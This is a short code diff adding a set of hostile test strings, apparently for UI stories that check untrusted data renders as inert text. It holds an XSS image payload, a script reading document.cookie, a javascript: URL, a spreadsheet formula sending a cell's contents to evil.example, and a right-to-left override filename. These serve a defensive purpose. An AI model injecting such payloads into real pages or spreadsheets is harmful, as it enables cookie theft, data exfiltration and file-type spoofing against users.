@@ -27,3 +27,15 @@ export function overriding(base: IpDataProvider, overrides: Partial<Record<keyof
     },
   });
 }
+
+/**
+ * Text a hostile or broken data source could send: markup, a script, a `javascript:` URL, a
+ * spreadsheet formula and a right-to-left override. Stories show it stays inert text.
+ */
+export const HOSTILE = {
+  markup: '<img src=x onerror=alert(1)>',
+  script: '<script>alert(document.cookie)</script>',
+  url: 'javascript:alert(1)',
+  formula: '=HYPERLINK("https://evil.example/?c="&A1,"Open")',
+  bidi: 'invoice\u202Egpj.exe',
+} as const;
